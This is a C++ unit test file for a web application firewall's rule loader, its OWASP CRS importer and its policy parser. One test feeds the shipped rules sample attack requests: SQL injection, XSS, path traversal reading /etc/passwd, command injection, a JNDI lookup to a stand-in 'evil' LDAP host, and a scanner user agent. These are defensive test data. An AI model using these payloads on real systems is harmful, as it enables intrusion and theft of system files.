// The rules directory: bad rule files with their expected diagnostics (data-driven), the shipped
// rules against attack and clean requests, policy parsing, and the OWASP CRS import counts.
#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <future>
#include <map>
#include <sstream>

#include "../waf/engine_fixture.hh"
#include "rules/loader.hh"
#include "rules/secrule.hh"

#ifndef RULES_TEST_DATA
#error "RULES_TEST_DATA must name tests/unit/rules"
#endif
#ifndef RULES_SHIPPED_DIR
#error "RULES_SHIPPED_DIR must name rules/shipped"
#endif

namespace fs = std::filesystem;

namespace {

std::string read(const fs::path& p) {
  std::ifstream in(p);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

// Each tests/unit/rules/bad/*.yaml starts with "# expect: <text>"; loading (and compiling) it must
// fail with an error whose text contains <text>, {file} standing for the file's path. A dir_*.yaml
// is loaded as the only file of a fresh rules directory (for what only a directory allows:
// secrules:), {file} then naming that copy.
TEST(bad_rules, each_file_fails_with_its_expected_diagnostic) {
  size_t n = 0;
  for (const auto& e : fs::directory_iterator(fs::path(RULES_TEST_DATA) / "bad")) {
    std::string text = read(e.path());
    ASSERT_TRUE(text.starts_with("# expect: ")) << e.path();
    std::string expect = text.substr(10, text.find('\n') - 10);
    const bool as_dir = e.path().filename().string().starts_with("dir_");
    fs::path file = e.path();
    fs::path dir;
    if (as_dir) {
      dir = fs::temp_directory_path() / ("rules-bad-" + std::to_string(::getpid())) / "rules";
      fs::remove_all(dir);
      fs::create_directories(dir);
      file = dir / e.path().filename();
      fs::copy_file(e.path(), file);
    }
    auto pos = expect.find("{file}");
    if (pos != std::string::npos) expect.replace(pos, 6, file.string());
    auto rs =
        as_dir ? rules::load_rules_dir(dir.string()) : rules::load_rule_file(e.path().string());
    if (as_dir) fs::remove_all(dir.parent_path());
    std::string got;
    if (!rs) {
      got = rs.error().str();
    } else {
      auto c = waf::ruleset::compile(std::move(*rs));
      ASSERT_FALSE(c) << e.path() << " should not compile";
      got = c.error().str();
    }
    EXPECT_NE(got.find(expect), std::string::npos)
        << e.path() << "\n  want: " << expect << "\n  got:  " << got;
    ++n;
  }
  EXPECT_GE(n, 24u);
}

// tx values are stored expanded: doubling setvars would grow 2^n. The expansion is bounded and the
// rule that needs the oversized macro is skipped with a reason.
TEST(secrule, macro_expansion_is_bounded) {
  auto dir = fs::temp_directory_path() / ("rules-macro-" + std::to_string(::getpid()));
  fs::create_directories(dir);
  std::string conf = "SecAction \"id:900001,phase:1,pass,nolog,setvar:tx.z0=aaaaaaaa\"\n";
  for (int i = 1; i <= 40; ++i)
    conf += "SecAction \"id:" + std::to_string(900001 + i) + ",phase:1,pass,nolog,setvar:tx.z" +
            std::to_string(i) + "=%{tx.z" + std::to_string(i - 1) + "}%{tx.z" +
            std::to_string(i - 1) + "}\"\n";
  conf +=
      "SecRule ARGS \"@contains %{tx.z40}\" "
      "\"id:942990,phase:2,block,setvar:'tx.anomaly_score_pl1=+5'\"\n";
  std::ofstream(dir / "m.conf") << conf;
  auto r = rules::import_secrules({(dir / "m.conf").string()});
  ASSERT_TRUE(r) << r.error().str();
  EXPECT_TRUE(r->rules.empty());
  ASSERT_EQ(r->skipped.size(), 1u);
  EXPECT_EQ(r->skipped[0].id, 942990u);
  EXPECT_NE(r->skipped[0].reason.find("macro"), std::string::npos) << r->skipped[0].reason;
  fs::remove_all(dir);
}

// What the engine cannot evaluate is skipped with its reason, never emitted for the compiler to
// refuse (one bad rule would fail the whole set): a PCRE2-only regex on every argument, a capture
// from REQUEST_BODY, @pm or a request-time regex on a captured value.
TEST(secrule, pcre_only_and_capture_forms_the_engine_cannot_run_are_skipped) {
  auto dir = fs::temp_directory_path() / ("rules-skips-" + std::to_string(::getpid()));
  fs::create_directories(dir);
  const std::string tail = ",phase:2,block,setvar:'tx.anomaly_score_pl1=+5'\"\n";
  std::string conf =
      "SecRule ARGS \"@rx ^(?:a(,|$)){1,3}$\" \"id:3101" + tail +
      "SecRule REQUEST_BODY \"@rx ^(x)\" \"id:3102,phase:2,block,capture,chain\"\n"
      "  SecRule TX:1 \"@streq x\" \"setvar:'tx.anomaly_score_pl1=+5'\"\n"
      "SecRule ARGS \"@rx ^(x)\" \"id:3103,phase:2,block,capture,chain\"\n"
      "  SecRule TX:1 \"@pm a b\" \"setvar:'tx.anomaly_score_pl1=+5'\"\n"
      "SecRule ARGS \"@rx ^(x)\" \"id:3104,phase:2,block,capture,chain\"\n"
      "  SecRule TX:1 \"@rx %{request_headers.host}\" \"setvar:'tx.anomaly_score_pl1=+5'\"\n"
      "SecRule ARGS \"@rx ^(x)\" \"id:3105,phase:2,block,capture,chain\"\n"
      "  SecRule TX:1 \"@streq %{request_headers.host}\" \"setvar:'tx.anomaly_score_pl1=+5'\"\n";
  std::ofstream(dir / "s.conf") << conf;
  auto r = rules::import_secrules({(dir / "s.conf").string()});
  ASSERT_TRUE(r) << r.error().str();
  std::map<uint32_t, std::string> why;
  for (const auto& k : r->skipped) why[k.id] = k.reason;
  EXPECT_NE(why[3101].find("PCRE2 alone runs it only on named fields"), std::string::npos);
  EXPECT_NE(why[3102].find("variable TX"), std::string::npos) << why[3102];
  EXPECT_NE(why[3103].find("@pm on a captured value"), std::string::npos) << why[3103];
  EXPECT_NE(why[3104].find("regex built at request time"), std::string::npos) << why[3104];
  ASSERT_EQ(r->rules.size(), 1u);  // 3105 imports, and what is imported compiles
  EXPECT_EQ(r->rules[0].id, 3105u);
  EXPECT_TRUE(waf::ruleset::compile(r->rules).has_value());
  fs::remove_all(dir);
}

// Conditions on configuration TX variables alone are decided at import (the holding cases are in
// secrule/tx_config.conf): a gate on a variable crs-setup left unset skips its rule with that
// reason; a rule left with no condition (901001 without crs-setup) is skipped, never a verdict on
// every request; TX variables rules change at request time (anomaly scores, += counters) and the
// paranoia level (the policy's) are not decided.
TEST(secrule, configuration_tx_gates_are_decided_at_import) {
  auto dir = fs::temp_directory_path() / ("rules-txgates-" + std::to_string(::getpid()));
  fs::create_directories(dir);
  const std::string tail = "setvar:'tx.anomaly_score_pl1=+5'\"\n";
  std::string conf =
      "SecAction \"id:900001,phase:1,pass,nolog,setvar:tx.max_num_args=3\"\n"
      "SecRule &TX:crs_setup_version \"@eq 0\" \"id:3201,phase:1,deny,status:500\"\n"
      "SecRule &TX:ARG_LENGTH \"@eq 1\" \"id:3202,phase:2,block,chain\"\n"
      "  SecRule ARGS \"@gt %{tx.arg_length}\" \"t:length," +
      tail +
      "SecRule TX:CRS_VALIDATE_UTF8_ENCODING \"@eq 1\" \"id:3203,phase:2,block,chain\"\n"
      "  SecRule ARGS \"@validateUtf8Encoding\" \"" +
      tail + "SecRule ARGS \"@rx evil\" \"id:3204,phase:2,block,setvar:'tx.anomaly_score=+5'," +
      tail +
      "SecRule TX:ANOMALY_SCORE \"@ge 5\" \"id:3205,phase:2,deny\"\n"
      "SecRule TX:PARANOIA_LEVEL \"@ge 2\" \"id:3206,phase:2,deny\"\n"
      "SecRule &TX:MAX_NUM_ARGS \"@eq 1\" \"id:3207,phase:2,block,chain\"\n"
      "  SecRule &ARGS \"@gt %{tx.max_num_args}\" \"" +
      tail;
  std::ofstream(dir / "g.conf") << conf;
  auto r = rules::import_secrules({(dir / "g.conf").string()});
  ASSERT_TRUE(r) << r.error().str();
  std::map<uint32_t, std::string> why;
  for (const auto& k : r->skipped) why[k.id] = k.reason;
  EXPECT_NE(why[3201].find("only configuration TX conditions"), std::string::npos) << why[3201];
  EXPECT_NE(why[3202].find("off with the imported configuration: &TX:arg_length @eq 1 with 0"),
            std::string::npos)
      << why[3202];
  EXPECT_NE(why[3203].find("TX:crs_validate_utf8_encoding is not set"), std::string::npos)
      << why[3203];
  EXPECT_NE(why[3205].find("variable TX"), std::string::npos) << why[3205];
  EXPECT_NE(why[3206].find("variable TX"), std::string::npos) << why[3206];
  ASSERT_EQ(r->rules.size(), 2u);
  EXPECT_EQ(r->rules[0].id, 3204u);
  EXPECT_EQ(r->rules[1].id, 3207u);  // the gate dropped: &ARGS > 3 alone
  ASSERT_EQ(r->rules[1].conditions.size(), 1u);
  EXPECT_TRUE(r->rules[1].conditions[0].count);

  // A variable a later file's rule sets at request time (or unsets) is never decided, even where
  // a SecAction gave it a value first; 901's default idiom is configuration, and is decided
  // before its own setvar.
  std::ofstream(dir / "a.conf")
      << "SecAction \"id:900002,phase:1,pass,nolog,setvar:tx.later=1,setvar:tx.gone=1\"\n"
         "SecRule &TX:dflt \"@eq 0\" \"id:3301,phase:1,pass,nolog,setvar:tx.dflt=7\"\n"
         "SecRule TX:LATER \"@eq 1\" \"id:3302,phase:2,block,chain\"\n"
         "  SecRule ARGS \"@rx a\" \"setvar:'tx.anomaly_score_pl1=+5'\"\n"
         "SecRule TX:GONE \"@eq 1\" \"id:3303,phase:2,block,chain\"\n"
         "  SecRule ARGS \"@rx b\" \"setvar:'tx.anomaly_score_pl1=+5'\"\n"
         "SecRule TX:DFLT \"@eq 7\" \"id:3304,phase:2,block,chain\"\n"
         "  SecRule ARGS \"@rx c\" \"setvar:'tx.anomaly_score_pl1=+5'\"\n";
  std::ofstream(dir / "b.conf")
      << "SecRule ARGS \"@rx z\" \"id:3305,phase:1,pass,nolog,setvar:tx.later=2\"\n"
         "SecRule ARGS \"@rx y\" \"id:3306,phase:1,pass,nolog,setvar:!tx.gone\"\n";
  auto r2 = rules::import_secrules({(dir / "a.conf").string(), (dir / "b.conf").string()});
  ASSERT_TRUE(r2) << r2.error().str();
  why.clear();
  for (const auto& k : r2->skipped) why[k.id] = k.reason;
  EXPECT_NE(why[3302].find("variable TX"), std::string::npos) << why[3302];
  EXPECT_NE(why[3303].find("variable TX"), std::string::npos) << why[3303];
  ASSERT_EQ(r2->rules.size(), 1u);
  EXPECT_EQ(r2->rules[0].id, 3304u);  // TX:dflt = 7 held: the gate dropped
  EXPECT_EQ(r2->rules[0].conditions.size(), 1u);
  fs::remove_all(dir);
}

// rule::gate as the compiler checks it: a gate reads head targets only (it must be decided before
// any rule it skips may fire), and a rule is skipped only by an earlier gate.
TEST(secrule, gates_compile_only_on_the_head_and_in_order) {
  auto rule = [](uint32_t id, waf::target t) {
    waf::rule r;
    r.id = id;
    r.conditions.resize(1);
    r.conditions[0].selectors = {{t, {}, {}}};
    r.conditions[0].oper = waf::op::contains;
    r.conditions[0].args = {"x"};
    return r;
  };
  auto gate = rule(1, waf::target::header), skipped = rule(2, waf::target::args);
  gate.gate = gate.silent = true;
  skipped.skipped_by = {1};
  EXPECT_TRUE(waf::ruleset::compile({gate, skipped}).has_value());
  auto e = waf::ruleset::compile({skipped, gate});
  ASSERT_FALSE(e);
  EXPECT_NE(e.error().str().find("skipped by 1, which is not an earlier gate"), std::string::npos)
      << e.error().str();
  auto late = rule(1, waf::target::args);
  late.gate = true;
  e = waf::ruleset::compile({late, skipped});
  ASSERT_FALSE(e);
  EXPECT_NE(e.error().str().find("a gate reads head targets only, not args"), std::string::npos)
      << e.error().str();
  auto silent = rule(3, waf::target::header);
  silent.silent = true;
  EXPECT_FALSE(waf::ruleset::compile({silent}).has_value());
}

// secrules: directories are confined to the rules directory and the CRS directories, with
// symlinks resolved; pmFromFile data files to the directory of their .conf.
TEST(loader, secrules_directories_are_confined) {
  auto root = fs::temp_directory_path() / ("rules-confine-" + std::to_string(::getpid()));
  fs::remove_all(root);
  auto dir = root / "rules", crs = root / "crs", outside = root / "outside";
  for (const auto& d : {dir / "sub", crs, outside}) fs::create_directories(d);
  const std::string conf =
      "SecRule ARGS \"@rx attack\" \"id:942999,phase:2,block,setvar:'tx.anomaly_score_pl1=+5'\"\n";
  std::ofstream(dir / "sub" / "a.conf") << conf;
  std::ofstream(crs / "b.conf") << "SecRule ARGS \"@rx other\" "
                                   "\"id:942998,phase:2,block,setvar:'tx.anomaly_score_pl1=+5'\"\n";
  std::ofstream(outside / "c.conf") << conf;
  auto write = [&](const std::string& yaml) {
    std::ofstream(dir / "r.yaml", std::ios::trunc) << yaml;
  };

  write("secrules: [sub]\n");
  auto ok = rules::load_rules_dir(dir.string());
  ASSERT_TRUE(ok) << ok.error().str();
  EXPECT_EQ(ok->size(), 1u);

  write("secrules: [" + crs.string() + "]\n");
  EXPECT_FALSE(rules::load_rules_dir(dir.string()));
  auto listed = rules::load_rules_dir(dir.string(), nullptr, {crs.string()});
  ASSERT_TRUE(listed) << listed.error().str();
  EXPECT_EQ(listed->size(), 1u);

  fs::create_symlink(outside, dir / "link");
  write("secrules: [link]\n");
  auto viaLink = rules::load_rules_dir(dir.string());
  ASSERT_FALSE(viaLink);
  EXPECT_EQ(viaLink.error().str(), (dir / "r.yaml").string() +
                                       ":1:12: secrules: 'link' is outside the rules directory " +
                                       dir.string() + ", /usr/share/modsecurity-crs");

  fs::create_symlink(outside / "c.conf", dir / "sub" / "c.conf");
  write("secrules: [sub]\n");
  auto viaFile = rules::load_rules_dir(dir.string());
  ASSERT_FALSE(viaFile);
  EXPECT_NE(viaFile.error().str().find("c.conf' leads outside the rules directory"),
            std::string::npos)
      << viaFile.error().str();
  fs::remove(dir / "sub" / "c.conf");

  std::ofstream(outside / "words.data") << "evil\n";
  std::ofstream(dir / "sub" / "a.conf", std::ios::trunc)
      << "SecRule ARGS \"@pmFromFile ../../outside/words.data\" "
         "\"id:942997,phase:2,block,setvar:'tx.anomaly_score_pl1=+5'\"\n"
      << conf;
  rules::load_report rep;
  auto pmf = rules::load_rules_dir(dir.string(), &rep);
  ASSERT_TRUE(pmf) << pmf.error().str();
  EXPECT_EQ(pmf->size(), 1u);
  ASSERT_EQ(rep.skipped.size(), 1u);
  EXPECT_EQ(rep.skipped[0].id, 942997u);
  EXPECT_NE(rep.skipped[0].reason.find("is outside the directory of its .conf"), std::string::npos)
      << rep.skipped[0].reason;
  fs::remove_all(root);
}

TEST(loader, directory_ids_must_be_unique_across_files) {
  auto dir = fs::temp_directory_path() / ("rules-dup-" + std::to_string(::getpid()));
  fs::create_directories(dir);
  std::ofstream(dir / "a.yaml") << "rules:\n  - id: 5\n    phase: args\n    pattern: x\n";
  std::ofstream(dir / "b.yaml") << "rules:\n  - id: 5\n    phase: args\n    pattern: y\n";
  auto r = rules::load_rules_dir(dir.string());
  ASSERT_FALSE(r);
  EXPECT_NE(r.error().str().find("b.yaml:2:5: rule 5: duplicate id in directory"),
            std::string::npos)
      << r.error().str();
  fs::remove_all(dir);
}

TEST(loader, compile_rules_dir_off_thread) {
  auto fut =
      std::async(std::launch::async, [] { return rules::compile_rules_dir(RULES_SHIPPED_DIR); });
  auto rs = fut.get();
  ASSERT_TRUE(rs) << rs.error().str();
  EXPECT_EQ((*rs)->rules().size(), 20u);
  auto bad = rules::compile_rules_dir("/nonexistent-rules-dir");
  ASSERT_FALSE(bad);
  EXPECT_EQ(bad.error().str(), "/nonexistent-rules-dir: not a directory");
}

TEST(loader, set_defaults_to_file_stem_and_severity_sets_score) {
  auto r = rules::parse_rule_file(
      "rules:\n  - id: 1\n    phase: args\n    pattern: x\n    severity: warning\n",
      "dir/myset.yaml");
  ASSERT_TRUE(r);
  EXPECT_EQ((*r)[0].set, "myset");
  EXPECT_EQ((*r)[0].severity, 4);
  EXPECT_EQ((*r)[0].score, 3);
  EXPECT_EQ((*r)[0].where, "dir/myset.yaml:2:5");
}

TEST(policy, parses_every_key) {
  auto doc = YAML::Load(R"(name: web
rule_sets: [sqli, xss]
mode: detect_only
anomaly_threshold: 7
paranoia: 2
body_limit: 4096
on_body_limit: inspect_partial
limits: {max_request_line: 1024, max_header_line: 2048, max_header_count: 20, max_head_bytes: 8192}
exclusions:
  - rules: [100100, 100101]
    path_prefix: /search
    arg: q
)");
  auto p = rules::parse_policy(doc, "p.yaml");
  ASSERT_TRUE(p) << p.error().str();
  EXPECT_EQ(p->name, "web");
  EXPECT_TRUE(p->detect_only);
  EXPECT_EQ(p->anomaly_threshold, 7);
  EXPECT_EQ(p->paranoia, 2);
  EXPECT_EQ(p->body_limit, 4096u);
  EXPECT_EQ(p->on_body_limit, waf::body_limit_action::inspect_partial);
  EXPECT_EQ(p->limits.max_header_count, 20u);
  ASSERT_EQ(p->exclusions.size(), 1u);
  EXPECT_EQ(p->exclusions[0].rule_ids, (std::vector<uint32_t>{100100, 100101}));
  EXPECT_EQ(p->exclusions[0].arg, "q");
}

TEST(policy, errors_name_the_position) {
  struct c {
    const char* yaml;
    const char* want;
  } cases[] = {{"mode: block\n", "p.yaml:1:7: policy default: unknown mode 'block'"},
               {"paranoia: 5\n", "p.yaml:1:11: policy default: 'paranoia' out of range 1..4"},
               {"limits: {max_head_bytes: 100}\n", "'max_head_bytes' out of range 256..65536"},
               {"exclusions: [{path_prefix: /x}]\n", "an exclusion needs 'rules'"},
               {"threshold: 5\n", "p.yaml:1:1: unknown key 'threshold' in policy"}};
  for (const auto& k : cases) {
    auto p = rules::parse_policy(YAML::Load(k.yaml), "p.yaml");
    ASSERT_FALSE(p) << k.yaml;
    EXPECT_NE(p.error().str().find(k.want), std::string::npos) << p.error().str();
  }
}

// The shipped rules: every attack class blocked, ordinary traffic passes.
class shipped : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    auto rs = rules::load_rules_dir(RULES_SHIPPED_DIR);
    ASSERT_TRUE(rs) << rs.error().str();
    auto c = waf::ruleset::compile(std::move(*rs));
    ASSERT_TRUE(c) << c.error().str();
    auto b = waf::bound_policy::bind(*c, {});
    ASSERT_TRUE(b);
    e_ = new waf_test::engine();
    e_->pol = *b;
    e_->ws = std::make_unique<waf::worker_scratch>(std::move(*waf::worker_scratch::create(**c)));
  }
  static void TearDownTestSuite() { delete e_; }
  static waf_test::engine* e_;
};
waf_test::engine* shipped::e_ = nullptr;

std::string req(const std::string& target, const std::string& headers = "") {
  return "GET " + target + " HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\n" +
         headers + "\r\n";
}

TEST_F(shipped, attacks_are_blocked_by_the_expected_rule) {
  struct c {
    std::string r;
    uint32_t rule;
  } cases[] = {
      {req("/p?id=1%27%20UNION%20ALL%20SELECT%20user,pass%20FROM%20users--"), 100100},
      {req("/login?u=admin%27%20or%20%271%27=%271"), 100101},
      {req("/p?id=1%27;%20DROP%20TABLE%20users"), 100102},
      {req("/p?id=1%20AND%20SLEEP(5)"), 100103},
      {req("/p?q=%3Cscript%3Ealert(1)%3C/script%3E"), 100200},
      {req("/p?q=%3Cimg%20src=x%20onerror=alert(1)%3E"), 100201},
      {req("/p?u=jav%09ascript:alert(1)"), 100202},
      {req("/static/../../etc/passwd"), 100300},
      {req("/d?file=..%252f..%252fetc%252fpasswd"), 100300},
      {req("/p?host=127.0.0.1;cat%20/etc/passwd"), 100400},
      {req("/x", "X-Api: ${jndi:ldap://evil/a}\r\n"), 100402},
      {"GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: sqlmap/1.7\r\n\r\n", 100500},
      {"TRACK / HTTP/1.1\r\nHost: a\r\n\r\n", 100600},
  };
  for (const auto& k : cases) {
    auto o = waf_test::run1(*e_, k.r);
    EXPECT_EQ(o.kind, waf::verdict_kind::block) << k.r;
    EXPECT_NE(std::find(o.ids.begin(), o.ids.end(), k.rule), o.ids.end())
        << k.r << " expected rule " << k.rule;
  }
}

TEST_F(shipped, ordinary_requests_pass) {
  const std::string cases[] = {
      req("/"),
      req("/search?q=union+station+opening+hours&page=2"),
      req("/products/shoes?color=black&size=42", "Cookie: session=abc123; theme=dark\r\n"),
      req("/articles/2024/select-the-best-coffee"),
      req("/api/v1/items?sort=-created&filter=name%3Dfoo"),
      "POST /api/items HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: "
      "27\r\n\r\n"
      "{\"name\":\"chair\",\"qty\":10}\r\n",
  };
  for (const auto& r : cases) {
    auto o = waf_test::run1(*e_, r);
    EXPECT_EQ(o.kind, waf::verdict_kind::pass)
        << r << " matched " << (o.ids.empty() ? 0 : o.ids[0]);
  }
}

// Debian's modsecurity-crs: the importer loads the rules it can express and lists every other one
// with its reason. The counts pin the importer's coverage (CRS 3.3.x).
TEST(crs_import, debian_crs_loads_with_counted_skips) {
  const fs::path dir = "/usr/share/modsecurity-crs/rules";
  if (!fs::is_directory(dir)) GTEST_SKIP() << "modsecurity-crs not installed";
  std::vector<std::string> files;
  for (const auto& e : fs::directory_iterator(dir))
    if (e.path().extension() == ".conf") files.push_back(e.path().string());
  std::sort(files.begin(), files.end());
  auto r = rules::import_secrules(files);
  ASSERT_TRUE(r) << r.error().str();
  size_t total = r->rules.size() + r->skipped.size();
  std::printf("CRS import: %zu SecRule chains, %zu imported, %zu skipped\n", total, r->rules.size(),
              r->skipped.size());
  for (const auto& [reason, n] : r->skipped_by_reason())
    std::printf("  skipped %4zu  %s\n", n, reason.c_str());
  EXPECT_EQ(total, 624u);
  EXPECT_GE(r->rules.size(), 194u);
  for (const auto& s : r->skipped) {
    EXPECT_FALSE(s.reason.empty());
    EXPECT_NE(s.where.find(".conf:"), std::string::npos);
  }
  auto by = r->skipped_by_reason();
  EXPECT_EQ(by["response phase"], 47u);
  EXPECT_GT(by["paranoia gate (level applied to the following rules)"], 100u);
  // Known rules and what they became.
  auto find = [&](uint32_t id) -> const waf::rule* {
    for (const auto& x : r->rules)
      if (x.id == id) return &x;
    return nullptr;
  };
  const waf::rule* sqli = find(942160);  // sleep()/benchmark()
  ASSERT_NE(sqli, nullptr);
  EXPECT_EQ(sqli->act, waf::action::score);
  EXPECT_EQ(sqli->score, 5);
  EXPECT_EQ(sqli->paranoia, 1);
  const waf::rule* scanner = find(913100);  // @pmFromFile scanners-user-agents.data
  ASSERT_NE(scanner, nullptr);
  EXPECT_EQ(scanner->conditions[0].oper, waf::op::pm);
  EXPECT_GT(scanner->conditions[0].args.size(), 50u);
  // MATCHED_VARS chain (was skipped: 120 failing CRS regression tests) and libinjection.
  const waf::rule* java = find(944120);
  ASSERT_NE(java, nullptr);
  ASSERT_EQ(java->conditions.size(), 2u);
  EXPECT_TRUE(java->conditions[1].on_matched);
  const waf::rule* libinj = find(942100);
  ASSERT_NE(libinj, nullptr);
  EXPECT_EQ(libinj->conditions[0].oper, waf::op::detect_sqli);
  ASSERT_NE(find(941100), nullptr);
  ASSERT_NE(find(920270), nullptr);  // @validateByteRange
  ASSERT_NE(find(920220), nullptr);  // @validateUrlEncoding
  EXPECT_EQ(by.count("chain on MATCHED_VAR(S)"), 0u);
  // capture + TX chains: the chained condition is derived from the capture groups.
  for (uint32_t id : {920190u, 920420u, 920440u, 920450u, 920480u, 931130u, 943110u}) {
    const waf::rule* x = find(id);
    ASSERT_NE(x, nullptr) << id;
    EXPECT_TRUE(x->conditions.back().derived()) << id;
  }
  EXPECT_FALSE(find(931130)->conditions.back().operand.empty());  // .%{request_headers.host}
  // skipAfter/SecMarker: 920280 (no Host header) scores and skips 920290 per request; 901's
  // sampling, 903's application exclusions and 912's DoS checks are decided at import.
  const waf::rule* no_host = find(920280);
  ASSERT_NE(no_host, nullptr);
  EXPECT_TRUE(no_host->gate);
  EXPECT_FALSE(no_host->silent);
  const waf::rule* empty_host = find(920290);
  ASSERT_NE(empty_host, nullptr);
  EXPECT_EQ(empty_host->skipped_by, std::vector<uint32_t>{920280});
  EXPECT_EQ(by.count("skip/skipAfter control flow"), 0u);
  EXPECT_EQ(by["skipAfter/skip taken on every request (decided at import)"], 14u);
  EXPECT_EQ(by["skipAfter/skip never taken (decided at import)"], 1u);  // 910000
  const waf::rule* pl2 = find(942430);
  ASSERT_NE(pl2, nullptr);
  EXPECT_EQ(pl2->paranoia, 2);
}

// SecRule importer data files (secrule/*.conf, see secrule/README.md): each construct imports
// without a skip and fires exactly the rules its comments name on each request.
struct data_case {
  int line = 0;
  std::vector<uint32_t> ids;  // empty: passes
  std::string request;
};

std::string build_request(const std::string& spec) {
  std::string head = spec, body;
  if (auto b = spec.find(" || "); b != std::string::npos) {
    head = spec.substr(0, b);
    body = spec.substr(b + 4);
  }
  std::vector<std::string> parts;
  for (size_t i = 0;;) {
    size_t bar = head.find(" | ", i);
    parts.push_back(head.substr(i, bar == std::string::npos ? std::string::npos : bar - i));
    if (bar == std::string::npos) break;
    i = bar + 3;
  }
  std::string r = parts[0] + " HTTP/1.1\r\nHost: test.example\r\n";
  for (size_t i = 1; i < parts.size(); ++i) r += parts[i] + "\r\n";
  if (!body.empty()) r += "Content-Length: " + std::to_string(body.size()) + "\r\n";
  return r + "\r\n" + body;
}

// `# skipped ID: text`: the rule the file expects skipped, with text in its reason.
std::map<uint32_t, std::string> read_skips(const fs::path& p) {
  std::map<uint32_t, std::string> out;
  std::ifstream in(p);
  for (std::string l; std::getline(in, l);) {
    if (!l.starts_with("# skipped ")) continue;
    size_t colon = l.find(": ");
    out[static_cast<uint32_t>(std::stoul(l.substr(10, colon - 10)))] = l.substr(colon + 2);
  }
  return out;
}

std::vector<data_case> read_cases(const fs::path& p) {
  std::vector<data_case> out;
  std::ifstream in(p);
  int n = 0;
  for (std::string l; std::getline(in, l);) {
    ++n;
    data_case c;
    c.line = n;
    if (l.starts_with("# passes: ")) {
      c.request = build_request(l.substr(10));
    } else if (l.starts_with("# fires ")) {
      size_t colon = l.find(": ");
      std::stringstream ids(l.substr(8, colon - 8));
      for (std::string id; std::getline(ids, id, ',');)
        c.ids.push_back(static_cast<uint32_t>(std::stoul(id)));
      c.request = build_request(l.substr(colon + 2));
    } else {
      continue;
    }
    out.push_back(std::move(c));
  }
  return out;
}

class secrule_data : public ::testing::TestWithParam<std::string> {};

TEST_P(secrule_data, imports_and_fires_as_annotated) {
  const fs::path p = fs::path(RULES_TEST_DATA) / "secrule" / GetParam();
  auto r = rules::import_secrules({p.string()}, "t");
  ASSERT_TRUE(r) << r.error().str();
  auto skips = read_skips(p);
  for (const auto& s : r->skipped) {
    auto it = skips.find(s.id);
    if (it == skips.end() || s.reason.find(it->second) == std::string::npos)
      ADD_FAILURE() << "skipped " << s.id << ": " << s.reason;
    if (it != skips.end()) skips.erase(it);
  }
  for (const auto& [id, why] : skips) ADD_FAILURE() << "not skipped " << id << " (" << why << ")";
  auto cases = read_cases(p);
  ASSERT_FALSE(cases.empty());
  auto rs = waf::ruleset::compile(r->rules);
  ASSERT_TRUE(rs) << rs.error().str();
  waf::policy pol;
  pol.paranoia = 4;
  pol.anomaly_threshold = 1000;
  auto b = waf::bound_policy::bind(*rs, pol);
  ASSERT_TRUE(b) << b.error().str();
  waf_test::engine e;
  e.pol = *b;
  auto ws = waf::worker_scratch::create(e.pol->rules());
  ASSERT_TRUE(ws);
  e.ws = std::make_unique<waf::worker_scratch>(std::move(*ws));
  for (const auto& c : cases) {
    auto o = waf_test::run1(e, c.request);
    auto got = o.ids, want = c.ids;
    std::sort(got.begin(), got.end());
    std::sort(want.begin(), want.end());
    EXPECT_NE(o.kind, waf::verdict_kind::block)
        << GetParam() << ":" << c.line << " status " << o.status;
    EXPECT_EQ(got, want) << GetParam() << ":" << c.line << " request:\n" << c.request;
  }
}

INSTANTIATE_TEST_SUITE_P(constructs, secrule_data,
                         ::testing::Values("matched_vars.conf", "matched_var_chain3.conf",
                                           "detect_sqli.conf", "detect_xss.conf",
                                           "validate_byte_range.conf", "validate_encoding.conf",
                                           "numeric.conf", "request_uri_decoded.conf",
                                           "capture.conf", "pcre_only.conf", "multi_match.conf",
                                           "counts.conf", "tx_config.conf", "skip_after.conf",
                                           "skip_after_config.conf", "skip_after_unsupported.conf"),
                         [](const auto& param_info) {
                           std::string n = param_info.param.substr(0, param_info.param.find('.'));
                           return n;
                         });

}  // namespace
